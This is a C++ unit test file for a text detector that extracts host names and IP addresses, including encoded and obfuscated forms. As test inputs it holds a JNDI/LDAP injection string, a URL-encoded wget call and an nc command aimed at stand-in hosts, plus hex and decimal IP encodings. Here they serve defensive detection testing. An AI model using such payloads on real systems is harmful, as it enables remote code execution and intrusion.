// Which hosts a text names.
#include "analytics/detectors/mention.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace lapwing::analytics {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;

std::vector<std::string> named_in(std::string_view text) {
  struct Sink final : MentionSink {
    void address(const IpAddress& address) override { all.push_back(to_string(address)); }
    void name(std::string_view name) override { all.emplace_back(name); }
    std::vector<std::string> all;
  } sink;
  mentions(text, sink);
  return sink.all;
}

TEST(MentionTest, NamesAndAddressesInWhateverForm) {
  EXPECT_THAT(named_in("x=${jndi:ldap://Evil.Example:1389/a}"), ElementsAre("evil.example"));
  EXPECT_THAT(named_in("wget http%3a%2f%2fevil.example%2fx"), ElementsAre("evil.example"));
  EXPECT_THAT(named_in("nc 203.0.113.9 4444; curl [2001:db8::9]:80"),
              ElementsAre("203.0.113.9", "2001:0db8:0000:0000:0000:0000:0000:0009"));
  EXPECT_THAT(named_in("http://0xcb007109/ http://3405803785/"), ElementsAre("203.0.113.9", "203.0.113.9"));
  EXPECT_THAT(named_in("1.2.3 a. .b ..c -- a..example 3405803785"), IsEmpty());
}

TEST(MentionTest, NotWhereARequestGoesAndComesFrom) {
  EXPECT_THAT(
      named_in("GET / HTTP/1.1\r\nHost: a.example\r\nReferer: https://b.example/\r\nOrigin: http://c.example\r\n"
               "X-Api: d.example\r\n"),
      ElementsAre("d.example"));
}

TEST(MentionTest, IsLinearInTheText) {
  std::string text;
  while (text.size() < 4'000'000) text += "http://";
  EXPECT_THAT(named_in(text), IsEmpty());
}

}  // namespace
}  // namespace lapwing::analytics
